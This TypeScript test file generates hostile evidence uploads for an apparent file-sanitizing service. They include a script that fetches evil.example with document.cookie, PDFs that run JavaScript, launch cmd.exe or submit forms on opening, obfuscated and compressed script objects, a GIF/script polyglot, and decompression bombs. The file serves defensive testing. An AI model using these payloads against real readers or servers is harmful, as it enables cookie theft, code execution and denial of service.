/** More files that a member may send as evidence to harm the readers or the reporter. */
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { once, plainPng, type HostileFile } from './hostile-files.ts'
import {
  AUTHOR,
  doc,
  docx,
  EXIF,
  jpeg,
  part,
  pdf,
  picture,
  png,
  scriptedPdf,
  SECRET_PLACE,
} from './sample-files.ts'
import { box, film, track, uint32 } from './sample-films.ts'

/** After `ftyp` and the header of `mdat`. */
const FILM_PICTURE_AT = 28
const DAMAGED = { status: 422, cause: 'damaged_file' } as const
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'

const evidence = (
  title: string,
  becomes: HostileFile['becomes'],
  make: HostileFile['make'],
  more: Partial<HostileFile> = {},
): HostileFile => ({
  title,
  field: 'report1',
  name: 'statement.pdf',
  type: 'application/octet-stream',
  make,
  becomes,
  ...more,
})
/** A document whose catalogue runs an action when it is opened. */
const opening = (action: string): Buffer => pdf(undefined, '', `/OpenAction ${action}`)
const stream = (number: number, dictionary: string, content: Buffer): string =>
  `${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`
const SCRIPTED = '7 0 << /S /JavaScript /JS (app.alert(1)) >>'
/** Readers then search the file for objects, also for those that no table lists. */
const broken = (whole: Buffer): Buffer =>
  Buffer.from(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n1'), 'latin1')
const objects = (filter: string, content: Buffer): string =>
  stream(8, `/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, content)

async function brokenCheck(): Promise<Buffer> {
  const whole = Buffer.from(await png(64, 64))
  const at = whole.indexOf('IDAT') + 8
  whole[at] = (whole[at] ?? 0) ^ 0xff
  return whole
}
const hugeAnimation = once(async (): Promise<Buffer> => {
  const frames = await Promise.all(
    Array.from({ length: 30 }, () => picture(300, 300).png().toBuffer()),
  )
  return sharp(frames, { join: { animated: true } })
    .webp({ quality: 20 })
    .toBuffer()
})
/** 256 megapixels in a file of 33 KB. */
const vast = (): Buffer => plainPng(16_384, 16_384)

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${index + 10} 0 R`).join(' ')
  const pages = Array.from(
    { length: count },
    (_, index) =>
      `${index + 10} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n`,
  ).join('')
  // The table is wrong afterwards, as in files that were edited by hand.
  return Buffer.from(
    pdf(undefined, pages)
      .toString('latin1')
      .replace('/Kids [3 0 R] /Count 1', `/Kids [${kids}] /Count ${count}`),
    'latin1',
  )
}

const MEGABYTE = 1024 * 1024
/** 19 MB of letters that are written in hexadecimal. */
const escapedLetters = (): Buffer => pdf(undefined, '#41'.repeat((19 * MEGABYTE) / 3))
/** One object 1,000 times in a compressed object of 60 MB: each would be read as a whole. */
const overlapping = once((): Buffer => {
  const heads = `40 0 40 ${60 * MEGABYTE} `.repeat(1_000)
  const content = Buffer.concat([Buffer.from(heads), Buffer.alloc(60 * MEGABYTE, '(')])
  return broken(
    pdf(
      undefined,
      stream(
        8,
        `/Type /ObjStm /N 2000 /First ${heads.length} /Filter /FlateDecode`,
        deflateSync(content),
      ),
    ),
  )
})

/** For both kinds of upload. */
export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
  evidence('a PDF that runs a script when it is opened', 'disarmed', () =>
    opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  ),
  evidence('a PDF that runs a script under escaped names', 'disarmed', () =>
    opening('<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>'),
  ),
  evidence('a PDF with the script in a compressed object', 'disarmed', () =>
    scriptedPdf('/ObjStm'),
  ),
  evidence('a PDF with the script in a compressed object of a broken table', 'disarmed', () =>
    broken(pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.from(SCRIPTED))))),
  ),
  evidence('a PDF with objects in another encoding', 'disarmed', () =>
    broken(
      pdf(
        undefined,
        objects('/ASCIIHexDecode', Buffer.from(Buffer.from(SCRIPTED).toString('hex'))),
      ),
    ),
  ),
  evidence('a PDF with objects encoded twice', 'disarmed', () =>
    broken(
      pdf(
        undefined,
        objects(
          '[/ASCIIHexDecode /FlateDecode]',
          Buffer.from(deflateSync(Buffer.from(SCRIPTED)).toString('hex')),
        ),
      ),
    ),
  ),
  evidence('a PDF that starts a program', 'disarmed', () =>
    opening('<< /S /Launch /F (cmd.exe) >>'),
  ),
  evidence('a PDF with a file inside', 'disarmed', () =>
    pdf(undefined, stream(7, '/Type /EmbeddedFile', Buffer.from('MZ'))),
  ),
  evidence('a PDF that sends a form', 'disarmed', () =>
    opening('<< /S /SubmitForm /F (https://evil.example/) >>'),
  ),
  evidence('a PDF that opens a PDF on another server', 'disarmed', () =>
    opening('<< /S /GoToR /F (//evil.example/a.pdf) >>'),
  ),
  evidence('a PDF with an XFA form', 'disarmed', () => opening('<< /XFA 7 0 R >>')),
  evidence('a truncated PDF', DAMAGED, () => pdf().subarray(0, 300)),
  evidence('a PDF of 300 pages', 'disarmed', () => manyPages(300), { mustVanish: [AUTHOR] }),
  evidence(
    'a PDF whose compressed object expands to 300 MB',
    { status: 422, cause: 'too_complex' },
    once(() =>
      broken(pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.alloc(300 * MEGABYTE))))),
    ),
  ),
  evidence('a PDF of 19 MB of escaped letters', 'disarmed', escapedLetters, {
    mustVanish: [AUTHOR],
  }),
  evidence('a PDF whose compressed objects overlap', 'disarmed', overlapping),
  evidence('a picture of 256 megapixels', { status: 422, cause: 'too_many_pixels' }, vast, {
    name: 'vast.png',
  }),
  evidence('a PNG with a wrong checksum', DAMAGED, brokenCheck, { name: 'a.png' }),
  evidence('a long WebP animation', 'disarmed', hugeAnimation, {
    name: 'a.webp',
    mustVanish: ['ANIM', 'ANMF'],
  }),
  evidence(
    'a JPEG with its location, as evidence',
    'disarmed',
    () => picture().jpeg().withExif(EXIF).toBuffer(),
    { name: 'a.jpg', mustVanish: [SECRET_PLACE, 'Exif'] },
  ),
  evidence('a picture with the name and type of a document', 'disarmed', () => jpeg(), {
    name: 'contract.pdf.jpg.docx',
    type: 'application/pdf',
  }),
  evidence(
    'a GIF that is also a script',
    'disarmed',
    async () =>
      Buffer.concat([
        await picture(64, 64).gif().toBuffer(),
        Buffer.from(`*/=1;alert(1)//${SCRIPT}`),
      ]),
    { name: 'a.gif', mustVanish: ['alert(1)', '<script>'] },
  ),
  evidence(
    'TIFF as evidence',
    { status: 415, cause: 'tiff' },
    () => picture(64, 64).tiff().toBuffer(),
    {
      name: 'scan.tiff',
    },
  ),
  evidence('a document with an embedded OLE object', 'no-copy', () =>
    docx([part('word/embeddings/oleObject1.bin', 'x')]),
  ),
  evidence(
    'an old Word document with a VBA project',
    'no-copy',
    () => doc(['WordDocument', 'VBA', '_VBA_PROJECT']),
    { name: 'a.doc' },
  ),
]

/** For uploads in parts, because the other upload accepts no films. */
export const HOSTILE_FILMS: readonly HostileFile[] = [
  evidence('a film with its location in six places', 'disarmed', () => film(), {
    mustVanish: [SECRET_PLACE, 'ISO6709', 'Phone of'],
  }),
  evidence('a film with HTML in a free box', 'disarmed', () => film({ end: box('free', SCRIPT) }), {
    mustVanish: ['<script>'],
  }),
  evidence(
    'a film with HTML in unknown boxes',
    'disarmed',
    () => film({ moovMore: box('evil', SCRIPT), end: box('html', SCRIPT) }),
    { mustVanish: ['<script>'] },
  ),
  evidence(
    'a film with locations in a subtitle track',
    'disarmed',
    () => film({ second: 'sbtl' }),
    {
      mustVanish: [SECRET_PLACE],
    },
  ),
  evidence('a truncated film', DAMAGED, () =>
    film({ picture: Buffer.alloc(5_000) }).subarray(0, 4_000),
  ),
  evidence('a film without the end of its index', DAMAGED, () => film().subarray(0, -30)),
  evidence('a film of an unknown brand', 'disarmed', () => film({ brand: 'evil' }), {
    mustVanish: [SECRET_PLACE],
  }),
  evidence('a HEIC file in the boxes of a film', DAMAGED, () => film({ brand: 'heic' })),
  evidence('a film with bytes after its boxes', DAMAGED, () =>
    film({ end: Buffer.from('<html>') }),
  ),
  evidence(
    'a film whose track refers to another server',
    { status: 415, cause: 'active_content' },
    () => film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') }),
  ),
  evidence('a film with location data only', 'disarmed', () => film({ picture: Buffer.alloc(0) }), {
    mustVanish: [SECRET_PLACE],
  }),
  evidence(
    'boxes of a film without picture and sound',
    { status: 415, cause: 'not_evidence' },
    () =>
      Buffer.concat([
        box('ftyp', 'isom', uint32(0)),
        box('mdat', SCRIPT),
        box('moov', box('udta', SCRIPT)),
      ]),
  ),
  evidence('a fragmented film with location data', { status: 422, cause: 'protected_film' }, () =>
    film({ moovMore: box('mvex', box('trex', uint32(0))) }),
  ),
  evidence('a film with two indexes', DAMAGED, () =>
    film({ end: box('moov', box('udta', SCRIPT)) }),
  ),
  evidence('a film with a box of 2^60 stated bytes', DAMAGED, () =>
    film({ end: Buffer.concat([uint32(1), Buffer.from('free'), uint32(0x10_00_00_00, 0)]) }),
  ),
  evidence('a film with a box of 3 stated bytes', DAMAGED, () =>
    film({ end: Buffer.concat([uint32(3), Buffer.from('free')]) }),
  ),
  evidence('a film of 30,000 empty boxes', { status: 422, cause: 'protected_film' }, () =>
    film({ end: Buffer.concat(Array.from({ length: 30_000 }, () => box('free'))) }),
  ),
  evidence('a film of 65 tracks', { status: 422, cause: 'protected_film' }, () =>
    film({
      moovMore: Buffer.concat(Array<Buffer>(63).fill(track({ kind: 'meta', at: 40, sizes: [1] }))),
    }),
  ),
  evidence(
    'a film of 11 tracks with 50,000 samples each',
    { status: 422, cause: 'protected_film' },
    () =>
      film({
        moovMore: Buffer.concat(
          Array<Buffer>(11).fill(
            track({ kind: 'meta', at: 40, sizes: Array<number>(50_000).fill(0) }),
          ),
        ),
      }),
  ),
  evidence(
    'a film with 2,000 empty boxes in its index',
    { status: 422, cause: 'protected_film' },
    () => film({ moovMore: Buffer.concat(Array<Buffer>(2_000).fill(box('udta'))) }),
  ),
  evidence(
    'a film with 600,000 samples of places, all of one size',
    'disarmed',
    () => {
      const places = Buffer.from(SECRET_PLACE.repeat(Math.ceil(600_000 / SECRET_PLACE.length)))
      return film({
        picture: places,
        moovMore: track({
          kind: 'meta',
          at: FILM_PICTURE_AT,
          sizes: [],
          same: { size: 1, count: places.length },
        }),
      })
    },
    { mustVanish: [SECRET_PLACE] },
  ),
  evidence('a film whose samples lie behind its end', DAMAGED, () => {
    const whole = film()
    const at = whole.lastIndexOf('stco') + 12
    whole.writeUInt32BE(0x7f_ff_ff_ff, at)
    return whole
  }),
]
